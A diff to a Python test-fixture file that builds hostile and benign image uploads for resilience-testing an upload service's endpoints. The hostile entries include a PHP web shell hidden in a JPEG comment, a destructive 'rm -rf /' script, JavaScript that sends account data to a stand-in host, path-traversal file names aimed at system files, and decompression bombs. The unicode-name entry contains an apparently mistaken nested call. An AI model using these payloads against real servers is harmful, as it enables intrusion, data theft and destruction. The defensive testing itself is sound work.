@@ -12,7 +12,7 @@ import struct
 import zlib
 from dataclasses import dataclass
 
-from PIL import Image, ImageCms
+from PIL import ExifTags, Image, ImageCms
 from pillow_heif import register_heif_opener
 
 from tests import imagefiles
@@ -268,6 +268,7 @@ HOSTILE: tuple[Hostile, ...] = (
     Hostile("html-named-jpg", "photo.jpg", lambda: HTML_PAGE, "unsupported_format"),
     Hostile("svg-with-script", "drawing.svg", svg_with_script, "unsupported_format"),
     Hostile("svg-with-script-as-png", "drawing.png", svg_with_script, "unsupported_format"),
+    Hostile("polyglot-png-html", "innocent.png", polyglot_png_html, "active_content"),
     Hostile("gif-as-jpg", "photo.jpg", lambda: saved_as("GIF"), "unsupported_format"),
     Hostile("bmp-as-jpg", "photo.jpg", lambda: saved_as("BMP"), "unsupported_format"),
     Hostile("tiff-as-jpg", "photo.jpg", lambda: saved_as("TIFF"), "unsupported_format"),
@@ -288,7 +289,6 @@ BENIGN: tuple[tuple[str, str, object], ...] = (
     ("every-metadata-png", "screenshot.png", metadata_png),
     ("heic-with-gps", "IMG_0001.HEIC", heic_with_gps),
     ("gps-webp", "phone.webp", imagefiles.webp_bytes),
-    ("polyglot-png-html", "innocent.png", polyglot_png_html),
     ("compression-bomb-idat", "dense.png", compression_bomb_idat_png),
     ("cmyk-jpeg", "print.jpg", cmyk_jpeg),
     ("16-bit-grey-png", "scan.png", png_16bit_grey),
@@ -298,3 +298,362 @@ BENIGN: tuple[tuple[str, str, object], ...] = (
     ("animated-webp", "loop.webp", animated_webp),
     ("animated-png", "loop.png", animated_png),
 )
+
+
+# --- The corpus sent over HTTP (tests/resilience/test_upload_corpus.py) -----------------------
+#
+# Every door gets every file. `Upload.hostile` says what the door must answer: a 4xx with a
+# reason, or the photo stored clean. Names and payloads are deterministic; the big ones are built
+# from their door's byte limit so "just over" means one byte over.
+
+
+@dataclass(frozen=True)
+class Upload:
+    id: str
+    name: str
+    make: object  # a zero-argument callable returning bytes, or one taking the door's byte limit
+    hostile: bool
+    content_type: str = "application/octet-stream"
+    sized: bool = False  # `make` takes the door's byte limit
+
+    def data(self, limit: int) -> bytes:
+        return self.make(limit) if self.sized else self.make()  # type: ignore[operator]
+
+
+def _app_segment(marker: int, payload: bytes) -> bytes:
+    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload
+
+
+def _jpeg_with_segments(*segments: bytes, size: tuple[int, int] = (64, 48)) -> bytes:
+    """A small real JPEG with extra marker segments right after SOI."""
+    base = imagefiles.jpeg_bytes(size=size, gps=False)
+    return base[:2] + b"".join(segments) + base[2:]
+
+
+@functools.cache
+def huge_xmp_jpeg() -> bytes:
+    """A 64x48 JPEG behind 5 MB of XMP packets (80 APP1 segments of 64 KB)."""
+    packet = b"http://ns.adobe.com/xap/1.0/\x00" + b"<x:xmpmeta>" + b"A" * 65_000
+    return _jpeg_with_segments(*[_app_segment(0xE1, packet)] * 80)
+
+
+@functools.cache
+def huge_icc_jpeg() -> bytes:
+    """A 64x48 JPEG carrying an 8 MB 'ICC profile' split over 128 APP2 segments."""
+    chunks = 128
+    return _jpeg_with_segments(
+        *[
+            _app_segment(0xE2, b"ICC_PROFILE\x00" + bytes([i + 1, chunks]) + b"\x42" * 65_000)
+            for i in range(chunks)
+        ]
+    )
+
+
+@functools.cache
+def huge_comment_jpeg() -> bytes:
+    """A 64x48 JPEG with 3 MB of COM segments."""
+    return _jpeg_with_segments(*[_app_segment(0xFE, b"SpyCam " * 9_000)] * 48)
+
+
+def big_exif_jpeg() -> bytes:
+    """A JPEG whose EXIF fills its segment (60 KB): large, as phones' are, and honest."""
+    exif = imagefiles.exif_with_gps()
+    exif[ExifTags.Base.ImageDescription] = "x" * 60_000
+    out = io.BytesIO()
+    imagefiles.two_colour_image((64, 48)).save(out, format="JPEG", exif=exif)
+    return out.getvalue()
+
+
+@functools.cache
+def huge_text_png() -> bytes:
+    """A 4x4 PNG with a 2 MB uncompressed tEXt chunk (Pillow's per-chunk cap is 1 MB)."""
+    text = _chunk(b"tEXt", b"Comment\x00" + b"A" * (2 * 1024 * 1024))
+    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), text)
+
+
+@functools.cache
+def many_ztxt_png() -> bytes:
+    """A 4x4 PNG with 12 zTXt chunks each inflating to 1 MB: 12 MB of text from 12 KB."""
+    bomb = _deflate_repeated(b"\x00" * 1000, 1000)
+    texts = [_chunk(b"zTXt", f"k{i}".encode() + b"\x00\x00" + bomb) for i in range(12)]
+    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), *texts)
+
+
+@functools.cache
+def itxt_bomb_png() -> bytes:
+    """A compressed iTXt chunk inflating to 64 MB."""
+    bomb = _deflate_repeated(b"\x00" * (1024 * 1024), 64)
+    text = _chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + bomb)
+    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), text)
+
+
+@functools.cache
+def iccp_bomb_png() -> bytes:
+    """An iCCP chunk whose profile inflates to 64 MB."""
+    bomb = _deflate_repeated(b"\x00" * (1024 * 1024), 64)
+    return _png(4, 4, 8, 0, zlib.compress(b"\x00" * 5 * 4), _chunk(b"iCCP", b"icc\x00\x00" + bomb))
+
+
+def trailing_junk_png() -> bytes:
+    """A 16x16 PNG followed by 2 MB after IEND (a second file riding along)."""
+    return imagefiles.png_bytes((16, 16)) + b"PK\x03\x04" + b"\x00" * (2 * 1024 * 1024)
+
+
+def png_claiming(width: int, height: int) -> bytes:
+    return imagefiles.png_header_claiming(width, height)
+
+
+def webp_claiming(side: int = 16_383) -> bytes:
+    """A lossless WebP whose VP8L header is patched to claim side x side pixels (the maximum)."""
+    out = io.BytesIO()
+    Image.new("RGB", (8, 8), imagefiles.RED).save(out, format="WEBP", lossless=True)
+    data = bytearray(out.getvalue())
+    start = data.index(b"VP8L") + 9  # chunk id, size, signature byte
+    bits = int.from_bytes(data[start : start + 4], "little")
+    bits = (bits & ~0x0FFFFFFF) | (side - 1) | ((side - 1) << 14)
+    data[start : start + 4] = bits.to_bytes(4, "little")
+    return bytes(data)
+
+
+def gif_claiming(side: int = 65_535) -> bytes:
+    data = bytearray(imagefiles.gif_bytes())
+    data[6:10] = struct.pack("<HH", side, side)
+    return bytes(data)
+
+
+def _animated(fmt: str, frames: int, size: tuple[int, int] = (16, 16)) -> bytes:
+    images = [Image.new("RGB", size, (i % 256, (i * 7) % 256, 90)) for i in range(frames)]
+    out = io.BytesIO()
+    options = {"lossless": True} if fmt == "WEBP" else {}
+    images[0].save(out, format=fmt, save_all=True, append_images=images[1:], **options)
+    return out.getvalue()
+
+
+@functools.cache
+def animated_png_frames(frames: int) -> bytes:
+    return _animated("PNG", frames)
+
+
+@functools.cache
+def animated_webp_frames(frames: int) -> bytes:
+    return _animated("WEBP", frames)
+
+
+def apng_claiming_frames(frames: int = 1_000_000) -> bytes:
+    """A two-frame APNG whose acTL chunk claims a million frames."""
+    data = bytearray(animated_png())
+    at = data.index(b"acTL")
+    data[at + 4 : at + 8] = struct.pack(">I", frames)
+    data[at + 12 : at + 16] = struct.pack(">I", zlib.crc32(bytes(data[at : at + 12])))
+    return bytes(data)
+
+
+def truncated(make: object, fraction: float) -> object:
+    def cut() -> bytes:
+        data = make()  # type: ignore[operator]
+        return data[: int(len(data) * fraction)]
+
+    return cut
+
+
+def noisy(fmt: str) -> object:
+    def make() -> bytes:
+        with Image.open(io.BytesIO(imagefiles.noisy_jpeg_bytes())) as img:
+            out = io.BytesIO()
+            img.convert("RGB").save(out, format=fmt)
+            return out.getvalue()
+
+    return functools.cache(make)
+
+
+def jpeg_with_php() -> bytes:
+    """A real JPEG whose comment is a PHP web shell (JPEG+PHP polyglot)."""
+    return _jpeg_with_segments(_app_segment(0xFE, b"<?php system($_GET['c']); ?>"))
+
+
+def jpeg_with_html_in_exif() -> bytes:
+    exif = imagefiles.exif_with_gps()
+    exif[ExifTags.Base.ImageDescription] = HTML_PAGE.decode()
+    out = io.BytesIO()
+    imagefiles.two_colour_image((64, 48)).save(out, format="JPEG", exif=exif)
+    return out.getvalue()
+
+
+def jpeg_then_html() -> bytes:
+    return imagefiles.jpeg_bytes(size=(32, 32)) + HTML_PAGE
+
+
+def over_limit(extra: int) -> object:
+    """A real photo padded to `extra` bytes past the door's limit."""
+
+    def make(limit: int) -> bytes:
+        photo = imagefiles.jpeg_bytes(size=(64, 48))
+        return photo + b"\x00" * (limit - len(photo) + extra)
+
+    return make
+
+
+def svg_onload() -> bytes:
+    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
+
+
+def xhtml_page() -> bytes:
+    return b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>"
+
+
+def zip_bytes() -> bytes:
+    import zipfile
+
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("photo.jpg", imagefiles.jpeg_bytes())
+    return out.getvalue()
+
+
+ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
+SHELL = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
+JS = b"fetch('/api/v1/me/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t));"
+PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n"
+TRAVERSALS = (
+    "../../../../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "../../config/settings.py",
+    "/etc/cron.d/evil",
+    "....//....//media/evil.html",
+    "%2e%2e%2f%2e%2e%2fevil.jpg.html",
+)
+
+
+def _long_name(extension: str, length: int = 700) -> str:
+    return "a" * (length - len(extension)) + extension
+
+
+def _hostile_uploads() -> list[Upload]:
+    uploads = [
+        Upload(f"base-{case.id}", case.name, case.make, True) for case in HOSTILE
+    ]  # the corpus the services are tested with, now through HTTP
+    H = functools.partial(Upload, hostile=True)
+    uploads += [
+        # Bombs by pixels.
+        H("png-claims-7000x7000", "big.png", lambda: png_claiming(7000, 7000)),
+        H("png-claims-1x50000000", "strip.png", lambda: png_claiming(1, 50_000_000)),
+        H("png-claims-0x0", "none.png", lambda: png_claiming(0, 0)),
+        H("jpeg-claims-20000x20000", "big.jpg", lambda: huge_dimensions_jpeg(20_000, 20_000)),
+        H("webp-claims-16383x16383", "big.webp", webp_claiming),
+        H("gif-claims-65535x65535", "big.gif", gif_claiming),
+        H("pixel-bomb-as-jpg", "bomb.jpg", pixel_bomb_png),
+        H("pixel-bomb-as-webp", "bomb.webp", pixel_bomb_png),
+        # Bombs by compression.
+        H("ztxt-chunks-12x1mb", "text.png", many_ztxt_png),
+        H("itxt-bomb-64mb", "xmp.png", itxt_bomb_png),
+        H("iccp-bomb-64mb", "icc.png", iccp_bomb_png),
+        # Huge metadata and riders.
+        H("xmp-5mb-jpeg", "xmp.jpg", huge_xmp_jpeg),
+        H("icc-8mb-jpeg", "icc.jpg", huge_icc_jpeg),
+        H("comment-3mb-jpeg", "comment.jpg", huge_comment_jpeg),
+        H("text-chunk-2mb-png", "text.png", huge_text_png),
+        H("zip-after-iend-png", "rider.png", trailing_junk_png),
+        # Polyglots and markup.
+        H("jpeg-php-polyglot", "shell.jpg", jpeg_with_php),
+        H("jpeg-php-polyglot-as-php-jpg", "shell.php.jpg", jpeg_with_php),
+        H("jpeg-html-in-exif", "exif.jpg", jpeg_with_html_in_exif),
+        H("jpeg-then-html", "tail.jpg", jpeg_then_html),
+        H("polyglot-gif-js-as-png", "funny.png", polyglot_gif_js),
+        H("svg-onload-as-jpg", "icon.jpg", svg_onload),
+        H("svg-as-webp", "icon.webp", svg_with_script),
+        H("svg-as-heic", "icon.heic", svg_with_script),
+        H("svgz", "icon.svgz", lambda: zlib.compress(svg_with_script())),
+        H("html-as-png", "page.png", lambda: HTML_PAGE, content_type="image/png"),
+        H("html-as-webp", "page.webp", lambda: HTML_PAGE),
+        H("html-as-heic", "page.heic", lambda: HTML_PAGE),
+        H("html-with-bom-as-jpg", "page.jpg", lambda: b"\xef\xbb\xbf  " + HTML_PAGE),
+        H("xhtml-as-jpg", "page.jpeg", xhtml_page),
+        # Truncated.
+        H("truncated-jpeg-10pc", "cut.jpg", truncated(imagefiles.noisy_jpeg_bytes, 0.1)),
+        H("truncated-jpeg-90pc", "cut.jpg", truncated(imagefiles.noisy_jpeg_bytes, 0.9)),
+        H("truncated-png-90pc", "cut.png", truncated(noisy("PNG"), 0.9)),
+        H("truncated-webp-50pc", "cut.webp", truncated(noisy("WEBP"), 0.5)),
+        H("truncated-heic-50pc", "cut.heic", truncated(heic_with_gps, 0.5)),
+        H("jpeg-header-only", "cut.jpg", lambda: imagefiles.jpeg_bytes()[:20]),
+        H("png-signature-only", "cut.png", lambda: b"\x89PNG\r\n\x1a\n"),
+        # Wrong extension, or none.
+        H("jpeg-named-exe", "photo.exe", imagefiles.jpeg_bytes),
+        H("jpeg-named-php", "photo.php", imagefiles.jpeg_bytes),
+        H("jpeg-named-html", "photo.html", imagefiles.jpeg_bytes),
+        H("jpeg-named-svg", "photo.svg", imagefiles.jpeg_bytes),
+        H("jpeg-double-extension", "photo.jpg.php", imagefiles.jpeg_bytes),
+        H("jpeg-no-extension", "photo", imagefiles.jpeg_bytes),
+        H("jpeg-trailing-dot", "photo.jpg.", imagefiles.jpeg_bytes),
+        H("gif-honest", "anim.gif", lambda: saved_as("GIF")),
+        H("bmp-honest", "scan.bmp", lambda: saved_as("BMP")),
+        H("tiff-as-png", "scan.png", lambda: saved_as("TIFF")),
+        # Animated bombs.
+        H("apng-500-frames", "loop.png", lambda: animated_png_frames(500)),
+        H("webp-300-frames", "loop.webp", lambda: animated_webp_frames(300)),
+        H("apng-claims-1e6-frames", "loop.png", apng_claiming_frames),
+        # Over the size limit.
+        H("over-limit-by-1-byte", "big.jpg", over_limit(1), sized=True),
+        H("over-limit-by-3mb", "big.jpg", over_limit(3 * 1024 * 1024), sized=True),
+        # Empty and non-image MIME.
+        H("zero-bytes-png", "empty.png", lambda: b"", content_type="image/png"),
+        H("one-byte", "one.jpg", lambda: b"\xff", content_type="image/jpeg"),
+        H("javascript", "app.js", lambda: JS, content_type="application/javascript"),
+        H("javascript-as-jpg", "app.jpg", lambda: JS, content_type="application/javascript"),
+        H("html-mime", "page.html", lambda: HTML_PAGE, content_type="text/html"),
+        H("pdf-with-js", "doc.pdf", lambda: PDF, content_type="application/pdf"),
+        H("shell-script-as-jpg", "run.jpg", lambda: SHELL, content_type="text/x-shellscript"),
+        H("elf-as-jpg", "bin.jpg", lambda: ELF, content_type="application/x-executable"),
+        H("zip-as-jpg", "archive.jpg", zip_bytes, content_type="application/zip"),
+        H("text-as-heic", "notes.heic", lambda: b"just text", content_type="text/plain"),
+    ]
+    # Path traversal and very long names, carrying what their name promises.
+    uploads += [
+        H(f"traversal-{i}", name, lambda: HTML_PAGE, content_type="text/html")
+        for i, name in enumerate(TRAVERSALS)
+    ]
+    uploads += [
+        H("long-name-php", _long_name(".php"), imagefiles.jpeg_bytes),
+        H("long-name-html-as-jpg", _long_name(".jpg"), lambda: HTML_PAGE),
+        H("long-extension", "photo." + "j" * 600, imagefiles.jpeg_bytes),
+        H("nul-in-name", "photo.php\x00.jpg", lambda: b"<?php phpinfo(); ?>"),
+    ]
+    return uploads
+
+
+def _benign_uploads() -> list[Upload]:
+    uploads = [Upload(f"base-{case_id}", name, make, False) for case_id, name, make in BENIGN]
+    B = functools.partial(Upload, hostile=False)
+    uploads += [
+        B("jpeg-named-png", "mislabelled.png", imagefiles.jpeg_bytes),
+        B("uppercase-extension", "IMG_0042.JPG", imagefiles.jpeg_bytes),
+        B("jpeg-declared-text-plain", "photo.jpg", gps_jpeg, content_type="text/plain"),
+        B("exif-60kb", "phone.jpg", big_exif_jpeg),
+        B("noisy-jpeg", "noise.jpeg", imagefiles.noisy_jpeg_bytes, content_type="image/jpeg"),
+        B("noisy-webp", "noise.webp", noisy("WEBP"), content_type="image/webp"),
+        B("animated-png-3-frames", "loop.png", lambda: animated_png_frames(3)),
+        B("phone-size-12mp-png", "big.png", lambda: imagefiles.png_bytes((4000, 3000))),
+        B("traversal-name-photo", "../../../../tmp/evil.jpg", gps_jpeg),
+        B("long-name-photo", _long_name(".jpg"), gps_jpeg),
+        B(
+            B(
+                "unicode-name-photo",
+                "ricordo d'estate \u2600\ufe0f \u0444\u043e\u0442\u043e.jpg",
+                gps_jpeg,
+            ),
+            "ricordo d'estate \u2600\ufe0f \u0444\u043e\u0442\u043e.jpg",
+            gps_jpeg,
+        ),
+    ]
+    return uploads
+
+
+def http_corpus() -> list[Upload]:
+    """Hostile and benign uploads, interleaved in a fixed order."""
+    hostile, benign = _hostile_uploads(), _benign_uploads()
+    mixed: list[Upload] = []
+    step = max(1, len(hostile) // max(1, len(benign)))
+    for i, upload in enumerate(hostile):
+        mixed.append(upload)
+        if i % step == step - 1 and benign:
+            mixed.append(benign.pop(0))
+    return mixed + benign
